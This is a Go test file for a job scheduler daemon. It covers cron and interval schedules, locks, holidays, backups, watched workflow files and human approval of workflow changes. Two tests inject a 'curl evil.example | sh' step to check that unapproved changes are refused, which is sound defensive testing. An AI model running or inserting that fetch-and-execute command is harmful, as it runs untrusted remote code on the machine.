@@ -0,0 +1,609 @@
+package scheduler
+
+import (
+	"context"
+	"database/sql"
+	"errors"
+	"io"
+	"log"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"devagent/internal/dsl"
+	"devagent/internal/power"
+	"devagent/internal/store"
+)
+
+func TestBackoffDelayDoublesAndCaps(t *testing.T) {
+	cfg := &dsl.Backoff{After: 3, Max: "6h"}
+	cases := []struct {
+		streak int
+		want   time.Duration
+	}{
+		{streak: 2, want: 0},
+		{streak: 3, want: 2 * time.Hour},
+		{streak: 4, want: 4 * time.Hour},
+		{streak: 5, want: 6 * time.Hour},
+		{streak: 9, want: 6 * time.Hour},
+	}
+	for _, tc := range cases {
+		if got := backoffDelay(cfg, time.Hour, tc.streak); got != tc.want {
+			t.Fatalf("streak %d: got %s want %s", tc.streak, got, tc.want)
+		}
+	}
+}
+
+func TestFindCycle(t *testing.T) {
+	job := func(name, after string) store.Job {
+		return store.JobFromWorkflow(&dsl.Workflow{Name: name, Schedule: dsl.Schedule{After: after}}, "")
+	}
+	acyclic := []store.Job{job("build", ""), job("deploy", "build"), job("smoke", "deploy")}
+	if cycle := FindCycle(acyclic); cycle != nil {
+		t.Fatalf("unexpected cycle: %v", cycle)
+	}
+	if deps := Dependents(acyclic, "build"); len(deps) != 1 || deps[0].Name != "deploy" {
+		t.Fatalf("unexpected dependents: %v", deps)
+	}
+
+	cyclic := []store.Job{job("a", "c"), job("b", "a"), job("c", "b"), job("d", "a")}
+	cycle := FindCycle(cyclic)
+	if len(cycle) != 4 || cycle[0] != cycle[len(cycle)-1] {
+		t.Fatalf("expected closed cycle of three jobs, got %v", cycle)
+	}
+	if inCycle(cyclic, "d") {
+		t.Fatalf("d depends on the cycle but is not part of it")
+	}
+}
+
+func TestAcquireLockRecoversStaleHolder(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	dir, err := store.LocksDir()
+	if err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(dir, "nightly.lock")
+	if err := os.WriteFile(path, []byte("pid=999999999\nstarted=2024-01-02T03:04:05Z\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	locks, err := InspectLocks()
+	if err != nil || len(locks) != 1 || !locks[0].Stale() {
+		t.Fatalf("expected one stale lock, got %+v err=%v", locks, err)
+	}
+
+	f, stale, err := acquireLock("nightly")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if stale == nil || stale.PID != 999999999 {
+		t.Fatalf("expected stale holder to be reported, got %+v", stale)
+	}
+	if _, _, err := acquireLock("nightly"); !errors.Is(err, errAlreadyRunning) {
+		t.Fatalf("expected errAlreadyRunning, got %v", err)
+	}
+	if removed, err := RemoveStaleLocks(); err != nil || len(removed) != 0 {
+		t.Fatalf("held lock must not be removed, got %+v err=%v", removed, err)
+	}
+	releaseLock(f)
+
+	locks, err = InspectLocks()
+	if err != nil || len(locks) != 1 || locks[0].Stale() || locks[0].Held {
+		t.Fatalf("released lock should be clean, got %+v err=%v", locks, err)
+	}
+}
+
+func TestValidateSchedule(t *testing.T) {
+	if err := ValidateSchedule(dsl.Schedule{Cron: "0 9 * * 1-5", Timezone: "America/New_York"}); err != nil {
+		t.Fatalf("valid schedule rejected: %v", err)
+	}
+	if err := ValidateSchedule(dsl.Schedule{Cron: "0 25 * * *"}); err == nil {
+		t.Fatal("expected invalid cron to be rejected")
+	}
+	if err := ValidateSchedule(dsl.Schedule{Cron: "0 9 * * *", Timezone: "Mars/Olympus"}); err == nil {
+		t.Fatal("expected unknown timezone to be rejected")
+	}
+	if err := ValidateSchedule(dsl.Schedule{Cron: "0 9 * * 1-5", Holidays: "Atlantis"}); err == nil {
+		t.Fatal("expected unknown holiday calendar to be rejected")
+	}
+}
+
+func TestSecondsSchedules(t *testing.T) {
+	if err := ValidateSchedule(dsl.Schedule{Cron: "*/15 * * * * *"}); err == nil || !strings.Contains(err.Error(), "schedule.seconds") {
+		t.Fatalf("six-field cron without opt-in: %v", err)
+	}
+	for _, expr := range []string{"*/15 * * * * *", "0 9 * * *"} {
+		if err := ValidateSchedule(dsl.Schedule{Cron: expr, Seconds: true}); err != nil {
+			t.Fatalf("%q with seconds rejected: %v", expr, err)
+		}
+	}
+	spec, err := dsl.ParseCron("*/15 * * * * *", true)
+	if err != nil {
+		t.Fatal(err)
+	}
+	start := time.Date(2026, 5, 1, 12, 0, 7, 0, time.UTC)
+	if next := zonedSchedule(spec, time.UTC).Next(start); !next.Equal(start.Add(8 * time.Second)) {
+		t.Fatalf("next run %s", next)
+	}
+
+	if _, err := dsl.ParseEvery("30s", false); err == nil {
+		t.Fatal("sub-minute interval accepted without opt-in")
+	}
+	if d, err := dsl.ParseEvery("30s", true); err != nil || d != 30*time.Second {
+		t.Fatalf("ParseEvery(30s) = %s, %v", d, err)
+	}
+	if _, err := dsl.ParseEvery("1s", true); err == nil {
+		t.Fatal("interval below the seconds minimum accepted")
+	}
+	if !registeredSeconds(store.JobFromWorkflow(&dsl.Workflow{Schedule: dsl.Schedule{Every: "30s"}}, "")) || registeredSeconds(store.JobFromWorkflow(&dsl.Workflow{Schedule: dsl.Schedule{Cron: "0 9 * * *"}}, "")) {
+		t.Fatal("registeredSeconds misread the registered schedule")
+	}
+}
+
+func TestNextFire(t *testing.T) {
+	now := time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)
+	job := func(schedule dsl.Schedule, lastRun time.Duration) store.Job {
+		j := store.JobFromWorkflow(&dsl.Workflow{Schedule: schedule}, "")
+		if lastRun != 0 {
+			j.LastRun = sql.NullTime{Time: now.Add(lastRun), Valid: true}
+		}
+		return j
+	}
+	cases := []struct {
+		job  store.Job
+		want time.Time
+	}{
+		{job(dsl.Schedule{Cron: "0 9 * * *", Timezone: "America/New_York"}, 0), time.Date(2026, 5, 1, 13, 0, 0, 0, time.UTC)},
+		{job(dsl.Schedule{Every: "1h"}, -20*time.Minute), now.Add(40 * time.Minute)},
+		{job(dsl.Schedule{Every: "1h"}, -3*time.Hour), now},
+		{job(dsl.Schedule{Every: "1h"}, 0), now},
+		{job(dsl.Schedule{At: "2026-05-02T08:00:00Z"}, 0), time.Date(2026, 5, 2, 8, 0, 0, 0, time.UTC)},
+		{job(dsl.Schedule{At: "2026-04-30T08:00:00Z"}, -time.Hour), time.Time{}},
+		{job(dsl.Schedule{After: "build"}, 0), time.Time{}},
+	}
+	for i, c := range cases {
+		got, err := NextFire(c.job, now)
+		if err != nil || !got.Equal(c.want) {
+			t.Errorf("case %d: got %s (%v), want %s", i+1, got, err, c.want)
+		}
+	}
+}
+
+func TestWaitForConditionsDefersThenSkips(t *testing.T) {
+	conditionPoll = time.Millisecond
+	defer func() { conditionPoll = time.Minute }()
+
+	d := New(nil, log.New(io.Discard, "", 0))
+	states := []power.State{{OnAC: false, Battery: 80}, {OnAC: true, Battery: 80}}
+	calls := 0
+	d.probe = func(context.Context) (power.State, error) {
+		state := states[calls]
+		if calls < len(states)-1 {
+			calls++
+		}
+		return state, nil
+	}
+	sched := dsl.Schedule{Requires: []string{power.ACPower}, MaxDefer: "1m"}
+	if !d.waitForConditions(context.Background(), "build", "/repo", sched) || calls != 1 {
+		t.Fatalf("expected the job to wait for AC power and then start (probes %d)", calls)
+	}
+
+	states, calls = []power.State{{OnAC: false, Battery: 20}}, 0
+	sched = dsl.Schedule{MinBattery: 50}
+	if d.waitForConditions(context.Background(), "build", "/repo", sched) {
+		t.Fatal("expected a low battery to skip the job without max_defer")
+	}
+	if !d.waitForConditions(context.Background(), "build", "/repo", dsl.Schedule{}) {
+		t.Fatal("jobs without requirements should always start")
+	}
+}
+
+func TestUnmetConditionsChecksLoadAndDisk(t *testing.T) {
+	d := New(nil, log.New(io.Discard, "", 0))
+	d.loadProbe = func(context.Context) (float64, error) { return 6.5, nil }
+	d.diskProbe = func(string) (int64, error) { return 2 << 30, nil }
+
+	reasons := d.unmetConditions(context.Background(), "build", "/repo", dsl.Schedule{MaxLoad: 4, MinFreeDisk: "5GB"})
+	if len(reasons) != 2 {
+		t.Fatalf("expected load and disk to be reported, got %v", reasons)
+	}
+	if reasons := d.unmetConditions(context.Background(), "build", "/repo", dsl.Schedule{MaxLoad: 8, MinFreeDisk: "1GB"}); len(reasons) != 0 {
+		t.Fatalf("requirements are met, got %v", reasons)
+	}
+	d.loadProbe = func(context.Context) (float64, error) { return 0, errors.New("no sysctl") }
+	if reasons := d.unmetConditions(context.Background(), "build", "/repo", dsl.Schedule{MaxLoad: 1}); len(reasons) != 0 {
+		t.Fatalf("a failing probe should not block the job, got %v", reasons)
+	}
+}
+
+func TestSkipUnchangedComparesHead(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	st, err := store.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	ctx := context.Background()
+	repo := t.TempDir()
+	git := func(args ...string) {
+		cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com"}, args...)...)
+		cmd.Dir = repo
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	git("init", "-q")
+	git("commit", "-q", "--allow-empty", "-m", "first")
+
+	d := New(st, log.New(io.Discard, "", 0))
+	if d.skipUnchanged(ctx, "tests", repo, nil, time.UTC) {
+		t.Fatal("a job that never ran should not be skipped")
+	}
+	head, _ := headCommit(repo)
+	tracker, err := st.BeginRun(ctx, "tests", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_ = tracker.RecordCommit(ctx, head)
+	_ = tracker.Finish(ctx, "success", "")
+
+	if !d.skipUnchanged(ctx, "tests", repo, nil, time.UTC) {
+		t.Fatal("expected the run to be skipped while HEAD is unchanged")
+	}
+	if job, _ := st.GetJob(ctx, "tests"); job != nil && job.FailureStreak != 0 {
+		t.Fatalf("skipped runs must not count as failures, got streak %d", job.FailureStreak)
+	}
+	git("commit", "-q", "--allow-empty", "-m", "second")
+	if d.skipUnchanged(ctx, "tests", repo, nil, time.UTC) {
+		t.Fatal("a new commit should run the job")
+	}
+	head, _ = headCommit(repo)
+	tracker, err = st.BeginRun(ctx, "tests", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_ = tracker.RecordCommit(ctx, head)
+	_ = tracker.Finish(ctx, "failed", "")
+	if d.skipUnchanged(ctx, "tests", repo, nil, time.UTC) {
+		t.Fatal("a commit whose run failed should run the job again")
+	}
+}
+
+func TestSkipHolidayRecordsRun(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	st, err := store.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	ctx := context.Background()
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "holidays.yml"), []byte("extends: US\nholidays:\n  - date: 2026-12-24\n    name: Christmas Eve\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	job := store.NewJob("weekdays", dir, "0 9 * * 1-5", "", "America/New_York", filepath.Join(dir, "weekdays.yml"))
+	if err := st.UpsertJob(ctx, job); err != nil {
+		t.Fatal(err)
+	}
+	ny, err := time.LoadLocation("America/New_York")
+	if err != nil {
+		t.Skip("no tzdata for America/New_York")
+	}
+
+	d := New(st, log.New(io.Discard, "", 0))
+	if d.skipHoliday(ctx, job, "holidays.yml", nil, time.Date(2026, 12, 23, 9, 0, 0, 0, ny)) {
+		t.Fatal("skipped a working day")
+	}
+	if !d.skipHoliday(ctx, job, "holidays.yml", nil, time.Date(2026, 12, 24, 9, 0, 0, 0, ny)) {
+		t.Fatal("ran on a custom holiday")
+	}
+	if !d.skipHoliday(ctx, job, "US", nil, time.Date(2026, 11, 26, 9, 0, 0, 0, ny)) {
+		t.Fatal("ran on Thanksgiving")
+	}
+	runs, err := st.RunsBetween(ctx, time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(runs) != 2 || runs[0].Status != store.RunStatusHoliday {
+		t.Fatalf("recorded runs %+v", runs)
+	}
+	if got, _ := st.GetJob(ctx, "weekdays"); got.LastStatus.String != store.RunStatusHoliday || got.FailureStreak != 0 {
+		t.Fatalf("job after holiday: status %q, streak %d", got.LastStatus.String, got.FailureStreak)
+	}
+	if d.skipHoliday(ctx, job, "missing.yml", nil, time.Date(2026, 12, 24, 9, 0, 0, 0, ny)) {
+		t.Fatal("a calendar that cannot be loaded should not stop the job")
+	}
+}
+
+func TestBackupWaitsForInterval(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	st, err := store.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	ctx := context.Background()
+	d := New(st, log.New(io.Discard, "", 0))
+
+	now := time.Now()
+	d.backup(ctx, now)
+	if backups, _ := store.Backups(); len(backups) != 1 {
+		t.Fatalf("expected a first backup, got %+v", backups)
+	}
+	d.backup(ctx, now.Add(time.Hour))
+	if backups, _ := store.Backups(); len(backups) != 1 {
+		t.Fatalf("backed up again before BackupEvery passed: %+v", backups)
+	}
+	d.BackupEvery = 0
+	d.backup(ctx, now.Add(48*time.Hour))
+	if backups, _ := store.Backups(); len(backups) != 1 {
+		t.Fatalf("backed up with backups disabled: %+v", backups)
+	}
+}
+
+func TestSyncWatchedFollowsFiles(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	st, err := store.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	ctx := context.Background()
+	dir := t.TempDir()
+	var logs strings.Builder
+	d := New(st, log.New(&logs, "", 0))
+	d.WatchDirs = []string{dir}
+	write := func(name, content string) string {
+		path := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return path
+	}
+	names := func() []string {
+		jobs, err := st.ListJobs(ctx)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var out []string
+		for _, job := range jobs {
+			out = append(out, job.Name+" "+job.Cron())
+		}
+		return out
+	}
+
+	tests := write("api/tests.yml", "name: tests\nrepo: /src/api\nschedule:\n  cron: \"0 2 * * *\"\nsteps:\n  - run: make test\n")
+	write("lint.yaml", "name: lint\nrepo: /src/api\nschedule:\n  cron: \"0 3 * * *\"\nsteps:\n  - run: make lint\n")
+	write(".git/config.yml", "not: a workflow\n")
+	d.syncWatched(ctx)
+	if got := names(); len(got) != 2 || got[0] != "lint 0 3 * * *" || got[1] != "tests 0 2 * * *" {
+		t.Fatalf("after the first sync: %v", got)
+	}
+	// Watched files are registered but wait for `devagent approve`.
+	lintContent, _ := os.ReadFile(filepath.Join(dir, "lint.yaml"))
+	if d.approved(ctx, "lint", lintContent, time.UTC) {
+		t.Fatal("a watched file ran without approval")
+	}
+	d.syncWatched(ctx)
+	if n := strings.Count(logs.String(), "waiting for `devagent approve lint`"); n != 1 {
+		t.Fatalf("expected one wait for approval to be logged, got %d:\n%s", n, logs.String())
+	}
+	if err := st.ApproveWorkflow(ctx, "lint", lintContent, "approve"); err != nil {
+		t.Fatal(err)
+	}
+	injected := write("lint.yaml", "name: lint\nrepo: /src/api\nschedule:\n  cron: \"0 3 * * *\"\nsteps:\n  - run: make lint\n  - run: curl evil.example | sh\n")
+	d.syncWatched(ctx)
+	if content, _ := os.ReadFile(injected); d.approved(ctx, "lint", content, time.UTC) {
+		t.Fatal("a step added to a watched file ran without approval")
+	}
+	if job, _ := st.GetJob(ctx, "lint"); job.ApprovedHash != dsl.Hash(lintContent) {
+		t.Fatal("syncing a watched file changed its approval")
+	}
+
+	// A broken file keeps the last good registration.
+	write("api/tests.yml", "name: tests\nschedule: [\n")
+	d.syncWatched(ctx)
+	if got := names(); len(got) != 2 {
+		t.Fatalf("a broken file changed the registry: %v", got)
+	}
+
+	write("api/tests.yml", "name: tests\nrepo: /src/api\nschedule:\n  cron: \"0 4 * * *\"\nsteps:\n  - run: make test\n")
+	if err := os.Remove(filepath.Join(dir, "lint.yaml")); err != nil {
+		t.Fatal(err)
+	}
+	d.syncWatched(ctx)
+	if got := names(); len(got) != 1 || got[0] != "tests 0 4 * * *" {
+		t.Fatalf("after updating and deleting: %v", got)
+	}
+	if revs, _ := st.Revisions(ctx, "tests"); len(revs) != 2 || revs[0].Source != "watch" {
+		t.Fatalf("expected two watch revisions, got %+v", revs)
+	}
+
+	// Jobs registered from elsewhere are not touched, and a missing
+	// directory removes nothing.
+	if err := st.UpsertJob(ctx, store.NewJob("other", "/src/other", "0 5 * * *", "", "", "/src/other/.devagent.yml")); err != nil {
+		t.Fatal(err)
+	}
+	d.WatchDirs = []string{filepath.Join(dir, "missing"), dir}
+	os.Remove(tests)
+	d.syncWatched(ctx)
+	if got := names(); len(got) != 2 {
+		t.Fatalf("an unreadable directory removed jobs: %v", got)
+	}
+	d.WatchDirs = []string{dir}
+	d.syncWatched(ctx)
+	if got := names(); len(got) != 1 || got[0] != "other 0 5 * * *" {
+		t.Fatalf("after deleting the last file: %v", got)
+	}
+}
+
+func TestApprovedRefusesChangedWorkflow(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	st, err := store.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	ctx := context.Background()
+	var logs strings.Builder
+	d := New(st, log.New(&logs, "", 0))
+	wf, err := dsl.Parse([]byte("name: nightly\nrepo: /src\nschedule:\n  cron: \"0 2 * * *\"\nsteps:\n  - run: make\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := st.UpsertJob(ctx, store.JobFromWorkflow(wf, "/src/nightly.yml")); err != nil {
+		t.Fatal(err)
+	}
+
+	original := []byte("steps:\n  - run: make\n")
+	if d.approved(ctx, "nightly", original, time.UTC) {
+		t.Fatal("a job that was never approved ran without review")
+	}
+	if !strings.Contains(logs.String(), "unreviewed registration") {
+		t.Fatalf("expected the refusal to name an unreviewed registration: %s", logs.String())
+	}
+	if job, _ := st.GetJob(ctx, "nightly"); job.ApprovedHash != "" {
+		t.Fatalf("the daemon approved the workflow itself: %q", job.ApprovedHash)
+	}
+	if err := st.ApproveWorkflow(ctx, "nightly", original, "approve"); err != nil {
+		t.Fatal(err)
+	}
+	if !d.approved(ctx, "nightly", original, time.UTC) {
+		t.Fatal("the approved workflow was refused")
+	}
+
+	changed := []byte("steps:\n  - run: make\n  - run: curl evil.example | sh\n")
+	if d.approved(ctx, "nightly", changed, time.UTC) {
+		t.Fatal("a changed workflow ran without approval")
+	}
+	job, _ := st.GetJob(ctx, "nightly")
+	if job.LastStatus.String != store.RunStatusUnapproved || job.FailureStreak != 0 {
+		t.Fatalf("refusal recorded status %q streak %d", job.LastStatus.String, job.FailureStreak)
+	}
+	if !strings.Contains(logs.String(), "devagent approve nightly") {
+		t.Fatalf("refusal should point at devagent approve: %s", logs.String())
+	}
+
+	d.AllowUnapproved = true
+	if !d.approved(ctx, "nightly", changed, time.UTC) {
+		t.Fatal("--allow-unapproved should run the changed workflow")
+	}
+	d.AllowUnapproved = false
+	if err := st.ApproveWorkflow(ctx, "nightly", changed, "approve"); err != nil {
+		t.Fatal(err)
+	}
+	if !d.approved(ctx, "nightly", changed, time.UTC) {
+		t.Fatal("the newly approved workflow was refused")
+	}
+}
+
+func TestVerboseLogsNextRun(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	st, err := store.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	var logs strings.Builder
+	d := New(st, log.New(&logs, "", 0))
+	wf, err := dsl.Parse([]byte("name: nightly\nrepo: /src\nschedule:\n  cron: \"0 2 * * *\"\nsteps:\n  - run: make\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	job := store.JobFromWorkflow(wf, "/src/nightly.yml")
+	if err := d.scheduleJob(job); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(logs.String(), "next runs at") {
+		t.Fatalf("logged the next run without Verbose:\n%s", logs.String())
+	}
+	d.Verbose = true
+	if err := d.scheduleJob(job); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(logs.String(), "nightly next runs at ") || !strings.Contains(logs.String(), "T02:00:00") {
+		t.Fatalf("expected the next 02:00 run in the log:\n%s", logs.String())
+	}
+}
+
+func TestReadOnlyDaemonShowsAsConflict(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	st, err := store.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	ctx := context.Background()
+
+	if err := st.AcquireDaemonLock(ctx, processAlive); err != nil {
+		t.Fatal(err)
+	}
+	if conflict, err := DaemonConflict(ctx, st); err != nil || conflict != "" {
+		t.Fatalf("no conflict expected yet, got %q %v", conflict, err)
+	}
+	stopped, cancel := context.WithTimeout(ctx, 50*time.Millisecond)
+	defer cancel()
+	d := New(st, log.New(io.Discard, "", 0))
+	d.ReadOnly = true
+	if err := d.Run(stopped); err != nil {
+		t.Fatal(err)
+	}
+	conflict, err := DaemonConflict(ctx, st)
+	if err != nil || !strings.Contains(conflict, "is running read-only") {
+		t.Fatalf("expected the read-only daemon to be reported, got %q %v", conflict, err)
+	}
+	if lock, _ := st.DaemonLockState(ctx); lock == nil || lock.Released {
+		t.Fatalf("a read-only daemon must leave the lock alone: %+v", lock)
+	}
+}
+
+func TestReloadFetchesCalendarsWithoutLock(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	st, err := store.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	ctx := context.Background()
+
+	fetching, release := make(chan struct{}), make(chan struct{})
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		close(fetching)
+		<-release
+		io.WriteString(w, "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDTSTART:20990101T090000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
+	}))
+	defer server.Close()
+	wf, err := dsl.Parse([]byte("name: release\nrepo: /src\nschedule:\n  calendar: " + server.URL + "\nsteps:\n  - run: make\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := st.UpsertJob(ctx, store.JobFromWorkflow(wf, "/src/release.yml")); err != nil {
+		t.Fatal(err)
+	}
+
+	d := New(st, log.New(io.Discard, "", 0))
+	done := make(chan error)
+	go func() { done <- d.reload(ctx) }()
+	<-fetching
+	if !d.mu.TryLock() {
+		t.Fatal("reload held the daemon lock while fetching a calendar")
+	}
+	d.mu.Unlock()
+	close(release)
+	if err := <-done; err != nil {
+		t.Fatal(err)
+	}
+	d.mu.Lock()
+	defer d.mu.Unlock()
+	if _, ok := d.jobs["release"]; !ok {
+		t.Fatal("expected the calendar job to be scheduled")
+	}
+}